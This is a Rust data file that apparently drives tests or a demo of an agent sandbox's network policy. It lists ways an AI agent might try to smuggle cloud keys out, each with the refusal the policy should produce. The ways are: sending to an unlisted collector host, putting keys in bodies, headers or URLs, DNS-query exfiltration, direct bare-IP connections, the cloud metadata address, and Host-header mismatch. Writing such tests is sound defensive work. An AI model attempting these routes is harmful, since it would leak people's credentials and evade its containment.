//! What an agent could try, as data: a request, and what must come of it.

use bottle_policy::Rule;

/// The one host that the demo's bottle may reach, with a credential of the person's.
pub(super) const LISTED: &str = "api.example.com";
/// A host that it may not reach.
pub(super) const UNLISTED: &str = "collector.example.net";
/// The variable in which the agent finds a placeholder.
pub(super) const VARIABLE: &str = "DEMO_TOKEN";

/// One thing that an agent could try.
pub(super) struct Step {
    /// In words.
    pub(super) what: &'static str,
    pub(super) attempt: Attempt,
    pub(super) expected: Expected,
}

/// A request. `{key}` in a text becomes a key as a cloud hands them out,
/// `{key64}` the same in base64, `{token}` what the agent holds as its credential.
pub(super) enum Attempt {
    /// A request through the proxy that the environment names.
    Proxied(Fetch),
    /// The same by a program that ignores the proxy variables.
    Direct(Fetch),
    /// A DNS question.
    Question(&'static str),
}

#[derive(Default)]
pub(super) struct Fetch {
    pub(super) url: &'static str,
    pub(super) headers: &'static [&'static str],
    pub(super) data: Option<&'static str>,
}

/// What must come of it.
pub(super) enum Expected {
    /// It passed, and the server saw the real credential.
    Passed,
    /// It was refused by this rule, told in the answer.
    Refused(Rule),
    /// The question was refused.
    NoAnswer,
}

const fn get(url: &'static str) -> Fetch {
    Fetch {
        url,
        headers: &[],
        data: None,
    }
}

/// Every attempt, in the order in which the table tells them.
pub(super) fn all() -> Vec<Step> {
    let mut steps = hosts();
    steps.extend(keys());
    steps.extend(ways_around());
    steps
}

fn step(what: &'static str, attempt: Attempt, expected: Expected) -> Step {
    Step {
        what,
        attempt,
        expected,
    }
}

fn hosts() -> Vec<Step> {
    vec![
        step(
            "a permitted call; the real key is added outside",
            Attempt::Proxied(Fetch {
                headers: &["Authorization: Bearer {token}"],
                ..get("https://api.example.com/v1/me")
            }),
            Expected::Passed,
        ),
        step(
            "a host that is not on the list",
            Attempt::Proxied(get("https://collector.example.net/drop")),
            Expected::Refused(Rule::UnknownHost),
        ),
    ]
}

fn keys() -> Vec<Step> {
    let refused = |what, fetch| {
        step(
            what,
            Attempt::Proxied(fetch),
            Expected::Refused(Rule::Secret),
        )
    };
    vec![
        refused(
            "a cloud key in a body",
            Fetch {
                data: Some("note=done&k={key}"),
                ..get("https://api.example.com/v1/notes")
            },
        ),
        refused(
            "a cloud key in a header",
            Fetch {
                headers: &["X-Trace: {key}"],
                ..get("https://api.example.com/v1/me")
            },
        ),
        refused(
            "a cloud key in a URL",
            get("https://api.example.com/v1/search?q={key}"),
        ),
        refused(
            "the key in base64, inside JSON",
            Fetch {
                headers: &["Content-Type: application/json"],
                data: Some(r#"{"image":{"data":"{key64}"}}"#),
                ..get("https://api.example.com/v1/notes")
            },
        ),
    ]
}

fn ways_around() -> Vec<Step> {
    let raw = |what, url| {
        step(
            what,
            Attempt::Direct(get(url)),
            Expected::Refused(Rule::RawAddress),
        )
    };
    vec![
        step(
            "a program that ignores the proxy variables",
            Attempt::Direct(get("https://collector.example.net/drop")),
            Expected::Refused(Rule::UnknownHost),
        ),
        step(
            "data in a DNS question",
            Attempt::Question("{key}.collector.example.net"),
            Expected::NoAnswer,
        ),
        raw("a connection to a bare address", "http://203.0.113.9/drop"),
        raw(
            "the cloud's metadata address",
            "http://169.254.169.254/latest/meta-data/",
        ),
        step(
            "TLS to one host, Host of another",
            Attempt::Proxied(Fetch {
                headers: &["Host: collector.example.net"],
                ..get("https://api.example.com/drop")
            }),
            Expected::Refused(Rule::HostMismatch),
        ),
    ]
}
